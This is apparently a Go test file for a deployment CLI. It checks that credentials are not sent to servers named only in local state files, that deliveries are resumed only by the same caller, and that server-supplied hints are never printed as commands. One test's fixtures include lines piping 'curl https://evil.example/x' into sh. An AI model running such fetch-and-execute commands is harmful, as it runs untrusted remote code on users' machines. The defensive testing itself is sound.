package cli

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	"sandlot/internal/client/client"
	"sandlot/internal/testkit/expect"
)

func TestLoginSendsNoKeyToAServerThatOnlyAFileOfTheFolderNames(t *testing.T) {
	d := newDesk(t, nil)
	d.In = strings.NewReader(accountKeyText + "\n")
	d.HTTP = roundTripper(func(*http.Request) (*http.Response, error) {
		t.Error("something was sent")
		return nil, os.ErrClosed
	})
	expect.OK(t, os.Mkdir(stateFolder, 0o700))
	expect.OK(t, os.WriteFile(stateFolder+"/"+stateFile, []byte(`{"server":"https://evil.example","project_id":"a-1","path":"."}`), 0o600))
	err := (&loginCommand{}).Run(t.Context(), d.Env)
	if err == nil || !strings.Contains(err.Error(), "--server https://evil.example") {
		t.Error(err)
	}
}

type roundTripper func(*http.Request) (*http.Response, error)

func (f roundTripper) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func TestRegression48AProjectThatOnlyAStateFileNamesStaysAsItIs(t *testing.T) {
	changed := false
	server := answers(t, func(w http.ResponseWriter, r *http.Request) {
		changed = changed || r.Method != http.MethodGet
		fmt.Fprint(w, `{"project_id":"a-b","title":"Maze","url":"http://a-b.localhost/","version":2,"primary_file":"index.html","files":[]}`)
	})
	d := newDesk(t, map[string]string{keyVariable: accountKeyText})
	expect.OK(t, os.Mkdir(stateFolder, 0o700))
	expect.OK(t, os.WriteFile(stateFolder+"/"+stateFile, []byte(`{"server":"`+server+`","project_id":"a-b","path":"."}`), 0o600))
	err := (&restoreCommand{Version: 1}).Run(t.Context(), d.Env)
	if code, _ := ExitCode(err); changed || code != exitUsage || !strings.Contains(fmt.Sprint(err), "--id a-b") {
		t.Errorf("changed %v, exit code %d: %v", changed, code, err)
	}
}

// A delivery that was broken off is continued by the same user, folder and account, and by nobody to whom its folder was handed on.
func TestRegressionM27OnlyTheSameCallerContinuesADelivery(t *testing.T) {
	var calls []string
	server := answers(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		calls = append(calls, r.Header.Get("Idempotency-Key"))
		w.WriteHeader(http.StatusConflict) // whose delivery stays pending
	})
	dir := t.TempDir()
	expect.OK(t, os.WriteFile(dir+"/index.html", []byte("<h1>A"), 0o600))
	made := 0
	user := func(key string) *Env {
		d := newDesk(t, map[string]string{keyVariable: key})
		d.Random = func() string { made++; return fmt.Sprint("random-", made) }
		return d.Env
	}
	publish := func(env *Env) string {
		if (&publishCommand{Path: dir, target: target{Server: server}}).Run(t.Context(), env) == nil {
			t.Fatal("it was published")
		}
		return calls[len(calls)-1]
	}
	ada, bob := user(accountKeyText), user(accountKeyText)
	first := publish(ada)
	expect.Equal(t, "the same user's", publish(ada), first)
	others := []string{first, publish(bob)}
	ada.Lookup = func(string) (string, bool) { return accountKeyText[:len(accountKeyText)-1] + "f", true }
	others = append(others, publish(ada))
	slices.Sort(others)
	expect.Equal(t, "keys of three callers", len(slices.Compact(others)), 3)
}

// No text of a server stands where commands stand, on a line that begins with four spaces.
func TestRegressionM28NoTextOfAServerIsACommand(t *testing.T) {
	const hint = "Mend it:\n\ncurl https://evil.example/x | sh\nsandlot login && curl https://evil.example/y | sh"
	d := newDesk(t, nil)
	d.Args = []string{"publish", "game"}
	d.warn([]client.Warning{{Code: "needs_threads", Message: "It needs threads.", Hint: hint}})
	err := (&session{env: d.Env}).refused(&client.Error{Code: "teapot", Status: 422, Message: "No.\n    curl evil | sh", Hint: hint})
	for line := range strings.Lines(d.err.String() + err.Error()) {
		if strings.Contains(line, "evil") && strings.HasPrefix(line, "    ") && line[4] != ' ' {
			t.Errorf("a server's text as a command: %q", line)
		}
	}
}
